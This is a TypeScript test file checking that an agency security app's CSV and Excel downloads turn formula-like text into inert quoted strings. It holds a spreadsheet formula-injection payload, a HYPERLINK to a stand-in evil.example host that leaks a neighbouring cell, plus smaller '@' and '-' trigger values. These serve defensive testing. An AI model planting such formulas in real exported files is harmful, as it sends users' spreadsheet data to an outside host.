import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { drillBody } from '../modules/drills/test-helpers.js';
import { people } from '../modules/org/schema.js';
import { buildPublishedCourse } from '../modules/training/course.fixtures.js';
import { buildTestApp, type Client, type TestApp } from '../test/app.js';
import { buildAgencyTree, buildUnit, loginAs } from '../test/factories.js';
import { answerAll, buildOpenCampaign } from '../test/selfcheck.js';

// Security finding "security holes" item 3: text a spreadsheet would run as a formula (a unit named
// =HYPERLINK(...) leaking the neighbouring cell) comes out of EVERY download as inert text, `'=…`.

const EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"詳細")';
const SAFE = `'${EVIL}`;

let t: TestApp;
let tree: Awaited<ReturnType<typeof buildAgencyTree>>;
let admin: Client;
let evilUnit: Awaited<ReturnType<typeof buildUnit>>;
let members: Awaited<ReturnType<typeof loginAs>>[];

beforeAll(async () => {
  t = await buildTestApp();
  tree = await buildAgencyTree(t);
  admin = tree.admin.client;
  evilUnit = await buildUnit(t, tree.root, { nameJa: EVIL });
  // Five people, so that no small-group rule hides the unit's row.
  members = [];
  for (let i = 0; i < 5; i++) {
    members.push(await loginAs(t, { unit: evilUnit, roles: ['staff'], name: i === 0 ? EVIL : undefined }));
  }
});
afterAll(() => t.close());

async function workbook(res: { statusCode: number; body: string; rawPayload: Buffer }) {
  expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
  return wb;
}

/** Every cell value of a workbook (or one sheet), with the formulas it holds. */
function cells(wb: ExcelJS.Workbook, sheet?: string) {
  const values: unknown[] = [];
  const formulas: string[] = [];
  for (const ws of wb.worksheets.filter((w) => !sheet || w.name === sheet)) {
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        values.push(cell.value);
        if (cell.formula) formulas.push(cell.formula);
      }),
    );
  }
  return { values, formulas };
}

function expectNeutralised(wb: ExcelJS.Workbook, sheet?: string) {
  const { values, formulas } = cells(wb, sheet);
  expect(formulas).toEqual([]);
  expect(values).toContain(SAFE);
  expect(values).not.toContain(EVIL);
}

describe('downloads never carry a live formula', () => {
  it('self-check results: the CSV and the .xlsx', async () => {
    const { campaignId } = await buildOpenCampaign(admin);
    for (const m of members) await answerAll(m.client, campaignId);
    const url = `/api/v1/selfcheck/campaigns/${campaignId}/results/export`;
    const csv = await admin.get(`${url}?format=csv&table=units`);
    expect(csv.statusCode, csv.body).toBe(200);
    const rows = parse(csv.rawPayload.toString('utf8').replace(/^\uFEFF/, '')) as string[][];
    const names = rows.map((r) => r[1]);
    expect(names).toContain(SAFE);
    expect(names).not.toContain(EVIL);
    expectNeutralised(await workbook(await admin.get(`${url}?format=xlsx`)), '組織別');
  });

  it('catalog export (.xlsx), which still reads back as the same text', async () => {
    const yaml = [
      'code: evil-catalog',
      'title: 悪意ある目録',
      'version: "1"',
      'summary: false',
      'chapters:',
      '  - no: "1"',
      '    title: 総則',
      '    sections:',
      '      - no: "1.1"',
      '        title: 節',
      '        items:',
      '          - id: "1.1.1(1)(a)"',
      `            title: '${EVIL.replaceAll("'", "''")}'`,
      "            text: '-1+2 は式ではない'",
      '            roles: [staff]',
      '            level: basic',
      '            tags: []',
      '',
    ].join('\n');
    const imported = await admin.request({
      method: 'POST',
      url: '/api/v1/selfcheck/catalogs/import',
      payload: yaml,
      headers: { 'content-type': 'application/yaml' },
    });
    expect(imported.statusCode, imported.body).toBe(200);
    const versions = (await admin.get('/api/v1/selfcheck/catalogs')).json().items as {
      id: string;
      catalogCode: string;
    }[];
    const versionId = versions.find((v) => v.catalogCode === 'evil-catalog')!.id;
    const res = await admin.get(`/api/v1/selfcheck/catalogs/${versionId}/export?format=xlsx`);
    const wb = await workbook(res);
    expectNeutralised(wb, 'items');
    expect(cells(wb, 'items').values).toContain("'-1+2 は式ではない");
    // Re-imported (as another code), the neutralising quote is gone again.
    const ws = wb.getWorksheet('catalog')!;
    ws.eachRow((row) => {
      if (row.getCell(1).value === 'code') row.getCell(2).value = 'evil-again';
    });
    const again = await admin.request({
      method: 'POST',
      url: '/api/v1/selfcheck/catalogs/import',
      payload: Buffer.from(await wb.xlsx.writeBuffer()),
      headers: { 'content-type': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' },
    });
    expect(again.statusCode, again.body).toBe(200);
    const list = (await admin.get('/api/v1/selfcheck/catalogs')).json().items as {
      id: string;
      catalogCode: string;
    }[];
    const copyId = list.find((v) => v.catalogCode === 'evil-again')!.id;
    const copy = (await admin.get(`/api/v1/selfcheck/catalogs/${copyId}`)).json();
    expect(copy.items.map((i: { title: string; text: string }) => [i.title, i.text])).toEqual([
      [EVIL, '-1+2 は式ではない'],
    ]);
  });

  it('policy differences (.xlsx)', async () => {
    const versions = (await admin.get('/api/v1/selfcheck/catalogs')).json().items as {
      id: string;
      shipped: boolean;
    }[];
    const policyId = (
      await admin.post('/api/v1/selfcheck/policies', {
        name: '対策基準',
        catalogVersionId: versions.find((v) => v.shipped)!.id,
      })
    ).json().id as string;
    const detail = (await admin.get(`/api/v1/selfcheck/policies/${policyId}`)).json();
    const change = await admin.request({
      method: 'PUT',
      url: `/api/v1/selfcheck/policies/${policyId}/changes`,
      payload: { kind: 'not_applicable', itemId: detail.items[0].itemId, reason: EVIL },
    });
    expect(change.statusCode, change.body).toBe(200);
    expectNeutralised(
      await workbook(await admin.get(`/api/v1/selfcheck/policies/${policyId}/differences.xlsx`)),
    );
  });

  it('classification register (.xlsx)', async () => {
    const head = await loginAs(t, { unit: evilUnit, roles: ['division_security_officer', 'staff'] });
    const created = await head.client.post('/api/v1/classification/entries', {
      title: EVIL,
      description: '@SUM(1+1)',
      form: 'electronic',
      storageLocation: '共有フォルダ',
      confidentiality: 2,
      integrity: 2,
      availability: 2,
    });
    expect(created.statusCode, created.body).toBe(201);
    const wb = await workbook(
      await head.client.get(`/api/v1/classification/entries/export?unitId=${evilUnit.id}`),
    );
    expectNeutralised(wb);
    expect(cells(wb).values).toContain("'@SUM(1+1)");
  });

  it('training completion (.xlsx)', async () => {
    const courseId = await buildPublishedCourse(admin, { n: 1 });
    const assigned = await admin.post(`/api/v1/training/courses/${courseId}/assignments`, {
      personIds: [members[0]!.person.id],
      dueOn: '2099-12-31',
    });
    expect(assigned.statusCode, assigned.body).toBeLessThan(300);
    const wb = await workbook(await admin.get(`/api/v1/training/completion/export?courseId=${courseId}`));
    expectNeutralised(wb);
    // the person's name and unit
    expect(cells(wb).values.filter((v) => v === SAFE)).toHaveLength(2);
  });

  it('drill results (.xlsx)', async () => {
    await t.sys.db
      .update(people)
      .set({ email: '-evil@example.go.jp' })
      .where(eq(people.id, members[1]!.person.id));
    const created = await admin.post(
      '/api/v1/drills',
      drillBody({ title: EVIL, targetUnitIds: [evilUnit.id] }),
    );
    expect(created.statusCode, created.body).toBe(201);
    const id = created.json().id as string;
    expect((await admin.post(`/api/v1/drills/${id}/schedule`)).statusCode).toBe(200);
    const wb = await workbook(await admin.get(`/api/v1/drills/${id}/results/export`));
    expectNeutralised(wb, '個人別');
    expect(cells(wb, '個人別').values).toContain("'-evil@example.go.jp");
    expectNeutralised(wb, '組織別');
    expectNeutralised(wb, '過去の訓練との比較');
  });
});
